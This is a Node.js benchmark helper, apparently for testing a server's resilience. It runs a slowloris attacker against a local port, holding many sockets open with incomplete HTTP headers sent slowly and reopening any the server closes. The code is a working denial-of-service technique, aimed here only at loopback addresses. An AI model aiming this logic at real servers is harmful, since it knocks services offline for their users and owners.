// A slowloris attacker: holds `connections` sockets to 127.0.0.1:PORT, spread over the loopback source
// addresses 127.0.0.2 … 127.0.0.(1+sources) (Linux routes all of 127/8 to lo), each with a request line
// and a Host header but never the blank line that ends the headers, one more header line every
// `dribbleMs`; a socket the server closes is opened again at once, so `connections` stay attempted.
// Run in its own process (so the probes' timing is not the attacker's event loop):
//   node bench/lib/slowloris.mjs PORT CONNECTIONS SOURCES  → a JSON line of counts every 200 ms on stdout.
// startSlowloris() spawns that and returns { stats(), until(pred), stop() }.
import { spawn } from 'node:child_process';
import net from 'node:net';
import { fileURLToPath } from 'node:url';

export function startSlowloris({ port, connections = 500, sources = 16 }) {
  const child = spawn(process.execPath, [fileURLToPath(import.meta.url), String(port), String(connections), String(sources)], { stdio: ['ignore', 'pipe', 'inherit'] });
  let last = { open: 0, opened: 0, closed: 0 };
  const waiters = [];
  let buf = '';
  child.stdout.setEncoding('utf8').on('data', (d) => {
    buf += d;
    let nl;
    while ((nl = buf.indexOf('\n')) >= 0) {
      last = JSON.parse(buf.slice(0, nl));
      buf = buf.slice(nl + 1);
      for (const w of waiters.splice(0)) (w.pred(last) ? w.resolve(last) : waiters.push(w));
    }
  });
  return {
    stats: () => last,
    /** Resolves once the attacker reports a count that passes `pred` (e.g. every connection opened once). */
    until: (pred) => new Promise((resolve) => (pred(last) ? resolve(last) : waiters.push({ pred, resolve }))),
    stop: () => new Promise((r) => { child.once('exit', r); child.kill('SIGTERM'); }),
  };
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const [port, connections, sources] = process.argv.slice(2).map(Number);
  const dribbleMs = 2_000;
  let open = 0;
  let opened = 0;
  let closed = 0;
  const hold = (i) => {
    const sock = net.connect({ port, host: '127.0.0.1', localAddress: `127.0.0.${2 + (i % sources)}` });
    let timer;
    sock.on('connect', () => {
      open++;
      opened++;
      sock.write(`GET /metrics HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\n`);
      timer = setInterval(() => sock.write(`X-${opened % 1000}: ${'a'.repeat(8)}\r\n`), dribbleMs);
    });
    sock.on('error', () => {});
    sock.resume(); // read, so a close by the server is seen (and the slot re-taken) at once
    sock.on('close', () => {
      if (timer !== undefined) {
        clearInterval(timer);
        open--;
        closed++;
      }
      setTimeout(() => hold(i), 5); // a few ms apart, or a refusing server makes this a busy loop
    });
  };
  for (let i = 0; i < connections; i++) hold(i);
  setInterval(() => process.stdout.write(`${JSON.stringify({ open, opened, closed })}\n`), 200);
  process.on('SIGTERM', () => process.exit(0));
}
